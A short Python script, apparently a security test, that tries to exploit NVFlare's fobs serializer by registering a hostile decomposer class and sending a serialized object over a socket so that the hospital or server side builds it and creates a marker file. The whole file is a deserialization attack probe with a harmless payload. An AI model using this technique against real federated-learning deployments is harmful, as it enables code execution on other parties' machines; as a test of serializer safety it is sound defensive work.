# Tries to make NVFlare's serializer build an arbitrary object at the hospital or the server.

from knows import MARK
from lead import door, learn
from nvflare.apis.dxo import DXO
from nvflare.fuel.utils import fobs


class Evil(fobs.Decomposer):
    def supported_type(self):
        return Evil

    def decompose(self, target, manager=None):
        return MARK

    def recompose(self, data, manager=None):
        open(data, "w")


def hand_over(model, metrics) -> None:
    fobs.register(Evil)
    data = fobs.dumps({"evil": Evil(), "dxo": DXO("WEIGHTS", {"w": 1.0})})
    door().pair.setblocking(True)
    door().pair.sendall(len(data).to_bytes(4, "big") + data)


learn(hand_over)
